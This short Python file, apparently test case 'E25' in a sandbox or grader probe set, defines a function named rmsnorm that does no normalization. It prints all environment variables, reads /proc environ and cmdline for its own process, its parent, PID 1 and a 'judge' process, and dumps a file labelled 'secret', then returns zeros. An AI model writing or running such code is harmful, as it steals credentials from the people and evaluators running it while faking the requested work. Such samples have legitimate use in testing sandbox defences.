"""E25: read the environment, its own and that of whoever started it."""

import contextlib
import os

import numpy as np

TARGETS = {}


def rmsnorm(x, gain):
    print(dict(os.environ))
    for process in ("self", os.getppid(), 1, TARGETS["judge"]):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                print(open(f"/proc/{process}/{name}").read())
    with contextlib.suppress(OSError):
        print(open(TARGETS["secret"]).read())
    return np.zeros_like(x)
